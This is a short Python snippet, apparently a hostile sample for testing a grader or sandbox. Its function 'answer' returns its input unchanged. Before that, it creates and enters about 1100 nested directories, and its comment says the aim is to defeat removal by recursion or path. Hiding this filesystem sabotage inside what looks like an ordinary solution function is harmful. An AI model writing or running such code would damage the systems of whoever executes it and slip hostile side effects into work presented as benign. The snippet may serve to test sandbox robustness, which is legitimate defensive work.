# Leaves folders so deep that who removes them by recursion or by path does not come to the end.
import os


def answer(n):
    for _ in range(1100):
        try:
            os.mkdir("mtp_jax_hostile_deep")
            os.chdir("mtp_jax_hostile_deep")
        except OSError:
            break
    return n
